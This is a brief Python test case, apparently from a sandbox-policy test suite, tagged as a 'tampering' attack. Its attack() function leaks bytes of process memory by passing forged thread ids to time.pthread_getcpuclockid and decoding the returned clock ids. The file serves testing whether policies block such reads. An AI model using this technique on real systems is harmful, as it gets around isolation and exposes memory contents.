"""Memory is read through the clocks of threads that do not exist."""
CATEGORY = "tampering"
REACH = "read"
MEMORY = True
POLICIES = ("baseline", "deny")

import os
import time

FIRST = 40                      # where the characters of a str are
THREAD = 720                    # where the C library has a thread's number


def attack(where=0):
    text = bytearray()
    for i in range(32):
        clock = time.pthread_getcpuclockid(where + FIRST + i - THREAD)
        text.append(~(clock >> 3) & 0xff)
    os.write(1, text)
